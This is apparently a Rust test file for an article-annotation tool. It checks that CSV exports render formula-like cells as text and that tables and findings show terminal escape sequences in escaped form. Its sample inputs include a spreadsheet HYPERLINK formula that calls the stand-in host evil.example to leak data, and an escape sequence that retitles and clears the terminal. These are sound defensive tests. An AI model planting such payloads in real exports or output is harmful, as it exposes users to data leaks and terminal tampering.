//! What Candor prints and exports is data, never commands: a CSV cell never
//! runs as a spreadsheet formula, and a table or a finding never sends the
//! terminal an escape sequence from the case.

use candor::edit::{self, Edit};
use candor::model::{AnnotatorId, ArticleId, CategoryId, LinkKind, MarkId};
use candor::text::CharRange;

use crate::util::{candor, case_with, marked, ok, stdout};

const TEXT: &str = "Officials called the campaigners a mob. Organisers said the camp was peaceful.";

/// A case in `root` whose `key` annotator has one claim and one actor with
/// the given names, each linking a mark on "mob", and whose article's
/// outlet is `outlet`.
fn case_named(root: &std::path::Path, claim: &str, actor: &str, outlet: &str) {
    let mut case = case_with(root, &[("wire", TEXT)]);
    case.manifest_mut().expect("writable").articles[0].outlet = outlet.into();
    let ids = marked(
        &mut case,
        "key",
        "wire",
        "Officials called the campaigners a [mob]{loaded}. Organisers said the camp was peaceful.",
    );
    let key = AnnotatorId::new("key");
    for (kind, name) in [(LinkKind::Claim, claim), (LinkKind::Actor, actor)] {
        let (e, _) = edit::new_link(&case, &key, kind, name, &ids[0]);
        e.apply(&mut case).expect("linked");
    }
    case.save().expect("save");
}

#[test]
fn a_csv_cell_that_starts_like_a_formula_is_written_as_text() {
    let dir = tempfile::tempdir().expect("tempdir");
    let formula = r#"=HYPERLINK("http://evil.example/?leak","click")"#;
    case_named(dir.path(), formula, "-2+3", "@SUM(A1:A9)");
    let compare = candor(&["compare", ".", "--format", "csv"], dir.path());
    ok(&compare);
    let stats = candor(&["stats", ".", "--format", "csv"], dir.path());
    ok(&stats);
    let mut cells = Vec::new();
    for out in [stdout(&compare), stdout(&stats)] {
        for table in out.split("\n\n") {
            let mut r = csv::ReaderBuilder::new()
                .has_headers(false)
                .flexible(true)
                .from_reader(table.as_bytes());
            for record in r.records() {
                cells.extend(record.expect("valid CSV").iter().map(str::to_string));
            }
        }
    }
    for c in &cells {
        assert!(
            !c.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a live formula: {c:?}"
        );
    }
    for written in [format!("'{formula}"), "'-2+3".into(), "'@SUM(A1:A9)".into()] {
        assert!(cells.contains(&written), "{written} not in {cells:?}");
    }
}

#[test]
fn escape_sequences_from_the_case_are_shown_escaped_in_tables_and_findings() {
    let dir = tempfile::tempdir().expect("tempdir");
    // Set the terminal's title, then clear the screen.
    let nasty = "\u{1b}]0;owned\u{7}\u{1b}[2J\u{9b}31m";
    case_named(dir.path(), nasty, "line\nbreak", "Wire");
    // A hand-edited marks file: a mark whose id is an escape sequence and
    // whose quote is nowhere in the text, so `check` names it.
    let mut case = candor::case::Case::open(dir.path()).expect("open");
    let (key, wire) = (AnnotatorId::new("key"), ArticleId::new("wire"));
    let mut orphan = case
        .mark_with_id(
            MarkId::new("m\u{1b}[2J"),
            &wire,
            CharRange::new(0, 9),
            &CategoryId::new("loaded"),
        )
        .expect("mark");
    orphan.quote = "rioters".into();
    Edit::AddMark {
        annotator: key,
        article: wire,
        mark: orphan,
    }
    .apply(&mut case)
    .expect("added");
    case.save().expect("save");

    let table = candor(&["compare", "."], dir.path());
    ok(&table);
    let check = candor(&["check", "."], dir.path());
    ok(&check);
    for o in [&table, &check] {
        let raw: Vec<u8> = o
            .stdout
            .iter()
            .copied()
            .filter(|b| *b < 0x20 && *b != b'\n')
            .collect();
        assert!(raw.is_empty(), "raw control bytes {raw:?} in {}", stdout(o));
        assert!(!stdout(o).contains('\u{9b}'), "{}", stdout(o));
    }
    assert!(
        stdout(&table).contains(r"\u{1b}]0;owned\u{7}\u{1b}[2J\u{9b}31m"),
        "{}",
        stdout(&table)
    );
    assert!(
        stdout(&table).contains(r"line\u{a}break"),
        "{}",
        stdout(&table)
    );
    assert!(
        stdout(&check).contains(r"mark m\u{1b}[2J is an orphan"),
        "{}",
        stdout(&check)
    );
}
